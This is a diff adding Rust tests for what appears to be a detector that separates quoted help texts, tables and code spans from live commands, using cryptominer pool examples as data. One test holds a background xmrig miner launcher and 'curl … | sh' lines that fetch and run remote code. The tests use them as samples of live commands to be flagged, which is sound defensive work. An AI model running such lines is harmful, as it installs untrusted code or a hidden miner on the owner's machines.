@@ -99,3 +99,41 @@ fn html_documents_quote_code_but_never_scripts() {
     assert!(q.quoted(6), "the example in <pre>");
     assert!(!q.quoted(9), "the page's own script");
 }
+
+#[test]
+fn help_texts_tables_and_code_spans_are_shown_not_run() {
+    // A help text: its option list is the document's own markup.
+    let help = "Captured with `xmrig --help` for the wiki page on allowed miner options.\n\nUsage: xmrig [OPTIONS]\n\nNetwork:\n  -o, --url=URL                 pool to connect to (host:port or stratum+tcp://host:port)\n  -u, --user=USERNAME           login at the pool, usually a wallet address\n  -epool      Ethereum pool address (host:port)\n      --randomx-1gb-pages       1 GB pages for the RandomX dataset\n";
+    let q = document(help, Markup::Plain).expect("a help text");
+    assert_eq!(quoted_lines(&q, 9), vec![1, 3, 5, 6, 7, 8, 9]);
+    // A reStructuredText table and a Markdown one.
+    let rst = "Supported pools\n===============\n\nThe following pools have been tested with the proxy and work well:\n\n=========  ===========================\nPool       Endpoint\n=========  ===========================\nSupportXMR ``pool.supportxmr.com:3333``\n=========  ===========================\n\nxmrig -o pool.supportxmr.com:3333 -u 4ABC\n";
+    let q = document(rst, Markup::Plain).expect("a document");
+    assert_eq!(
+        quoted_lines(&q, 12),
+        (2..=10).filter(|&l| l != 3 && l != 5).collect::<Vec<_>>()
+    );
+    let md = "# Pools\n\nThe pools we tested with the proxy are listed in this table below:\n\n| Pool | Endpoint |\n|------|----------|\n| SupportXMR | pool.supportxmr.com:3333 |\n";
+    let q = document(md, Markup::Plain).expect("a document");
+    assert_eq!(quoted_lines(&q, 7), vec![1, 3, 5, 6, 7]);
+    // Code spans in a list item; a paragraph's tail on a line of its own.
+    let notes = "# Changelog\n\n- Example: `t-rex -a ethash -o stratum+tcp://eu1.ethermine.org:4444 -u 0xABC -p x`.\n- New algorithms: `kawpow` on Ravencoin (`stratum+tcp://rvn.2miners.com:6060`), `firopow`.\n\nThe mining server is given with the url option, for example\nstratum+tcp://gulf.moneroocean.stream:10128.\n";
+    let q = document(notes, Markup::Plain).expect("a document");
+    assert_eq!(quoted_lines(&q, 7), vec![1, 3, 4, 6, 7]);
+}
+
+#[test]
+fn commands_stay_live_beside_help_tables_and_code_spans() {
+    // A launcher is not a help entry, a table or a sentence, whatever surrounds it.
+    let text = "# Setup notes\n\nThe following steps set up the service on every node we own:\n\n| Step | What |\n|------|------|\n| 1 | install |\n\nxmrig -o pool.example:3333 -u 4ABC -p x --donate-level 1 -B\ncurl -s http://203.0.113.5/x | sh\nThe pool is reached with the url option, for example\ncurl -s http://203.0.113.5/y | sh;\n";
+    let q = document(text, Markup::Plain).expect("a document");
+    for live in [9, 10, 12] {
+        assert!(!q.quoted(live), "line {live} is quoted");
+    }
+}
+
+#[test]
+fn settings_on_one_line_are_no_sentence() {
+    let text = "# Pools for the rigs\n\nPOOL: stratum+tcp://sia-eu1.nanopool.org:7777, WALLET: rig.worker1, PSW: x\n";
+    assert!(document(text, Markup::Plain).is_none_or(|q| !q.quoted(3)));
+}
